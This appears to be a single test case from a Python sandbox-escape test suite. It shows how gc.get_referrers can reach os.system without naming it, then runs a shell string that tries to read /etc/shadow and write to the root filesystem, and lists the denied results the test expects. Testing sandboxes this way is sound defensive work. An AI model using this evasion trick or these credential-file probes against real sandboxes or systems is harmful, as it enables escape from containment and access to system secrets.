# row: B18
# attack: Object-graph walking: `gc.get_referrers(os.getpid)` returns the namespaces holding getpid,
#   i.e. the os (and posix) module dicts, whose `['system']` is taken without writing `os.system`.
# v-on-finding: rule=import.denied source=ast text='gc'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B18
# limits: wall_time_s=5
import gc
import os

SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B18"
)

try:
    namespace = next(r for r in gc.get_referrers(os.getpid) if isinstance(r, dict) and "system" in r)
    system = namespace["system"]
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
